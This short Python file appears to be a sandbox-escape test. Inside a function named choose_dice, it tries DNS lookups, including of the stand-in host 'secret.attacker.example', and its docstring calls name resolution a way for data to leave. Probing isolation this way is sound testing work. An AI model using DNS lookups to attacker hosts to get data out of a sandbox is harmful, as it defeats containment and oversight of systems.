"""Resolve names, which is how data leaves by DNS."""

import socket

from attempts import escaped


def choose_dice(self, view):
    for name in ("localhost", "example.org", "secret.attacker.example"):
        self.log(*escaped(lambda: socket.getaddrinfo(name, 80)))
        self.log(*escaped(lambda: socket.gethostbyname(name)))
    self.log(*escaped(lambda: socket.gethostbyaddr("127.0.0.1")))
    self.log(*escaped(lambda: socket.if_nameindex()))
    return 1
